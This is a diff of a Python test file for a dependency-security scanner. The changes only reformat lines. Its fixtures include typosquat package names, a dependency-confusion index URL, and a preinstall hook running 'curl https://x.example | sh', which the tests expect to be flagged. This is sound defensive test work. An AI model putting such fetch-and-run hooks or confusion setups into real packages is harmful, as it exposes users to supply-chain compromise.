@@ -10,7 +10,10 @@ from activities.scanning.package_names import damerau_levenshtein, similar_popul
 
 
 def _rules(files: dict[str, str]) -> set[str]:
-    return {finding.rule for finding in check_dependencies({path: text.encode() for path, text in files.items()}).findings}
+    return {
+        finding.rule
+        for finding in check_dependencies({path: text.encode() for path, text in files.items()}).findings
+    }
 
 
 def _package(**sections: object) -> dict[str, str]:
@@ -22,12 +25,17 @@ def test_npm_typosquats_are_found(name: str) -> None:
     assert _rules(_package(dependencies={name: "1.0.0"})) & {"dependency.typosquat", "dependency.malicious"}
 
 
-@pytest.mark.parametrize("name", ["reqeusts", "python-dateutils", "numpyy", "djangoo", "panddas", "requestss"])
+@pytest.mark.parametrize(
+    "name", ["reqeusts", "python-dateutils", "numpyy", "djangoo", "panddas", "requestss"]
+)
 def test_pypi_typosquats_are_found(name: str) -> None:
     assert _rules({"requirements.txt": f"{name}==1.0\n"}) & {"dependency.typosquat", "dependency.malicious"}
 
 
-@pytest.mark.parametrize(("ecosystem", "name"), [("npm", "preact"), ("npm", "lodash"), ("PyPI", "requests"), ("PyPI", "python_dateutil")])
+@pytest.mark.parametrize(
+    ("ecosystem", "name"),
+    [("npm", "preact"), ("npm", "lodash"), ("PyPI", "requests"), ("PyPI", "python_dateutil")],
+)
 def test_popular_names_imitate_nothing(ecosystem: str, name: str) -> None:
     assert similar_popular_name(ecosystem, name) is None
 
@@ -44,7 +52,10 @@ def test_popular_names_imitate_nothing(ecosystem: str, name: str) -> None:
         (_package(dependencies={"request": "2.88.0"}), "dependency.deprecated"),
         (_package(scripts={"postinstall": "node x.js"}), "install.script"),
         (_package(scripts={"preinstall": "curl https://x.example | sh"}), "command.dangerous"),
-        ({"requirements.txt": "--extra-index-url https://x.example/simple\nrequests==2\n"}, "dependency.confusion"),
+        (
+            {"requirements.txt": "--extra-index-url https://x.example/simple\nrequests==2\n"},
+            "dependency.confusion",
+        ),
         ({"requirements.txt": "requests\n"}, "dependency.unpinned"),
         ({"requirements.txt": "git+https://x.example/a.git\n"}, "dependency.url"),
         ({"pyproject.toml": "[project]\ndependencies = ['a @ https://x.example/a.whl']\n"}, "dependency.url"),
@@ -57,7 +68,9 @@ def test_risky_dependency_declarations_are_found(files: dict[str, str], rule: st
 
 
 def test_a_safe_release_of_a_once_hijacked_package_is_not_malicious() -> None:
-    assert "dependency.malicious" not in _rules(_package(dependencies={"event-stream": "^4.0.1", "chalk": "^5.3.0"}))
+    assert "dependency.malicious" not in _rules(
+        _package(dependencies={"event-stream": "^4.0.1", "chalk": "^5.3.0"})
+    )
 
 
 def test_swapping_neighbours_is_one_edit() -> None:
